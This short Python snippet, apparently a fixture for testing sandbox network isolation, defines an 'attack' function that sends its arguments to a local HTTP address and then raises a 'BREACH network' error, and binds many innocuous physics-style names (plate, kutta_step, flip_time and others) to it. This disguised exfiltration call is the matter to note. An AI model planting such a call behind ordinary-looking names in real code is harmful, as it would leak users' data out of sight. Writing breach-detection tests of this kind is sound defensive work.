# Attack: uploads what it sees.
# %%
import urllib.request


def attack(*arguments):
    urllib.request.urlopen("http://127.0.0.1:8888/?" + repr(arguments)[:50], timeout=2)
    raise RuntimeError("BREACH network")


plate = body_rate = gyrostat_rate = air_force = kutta_step = march = flip_time = swing = attack
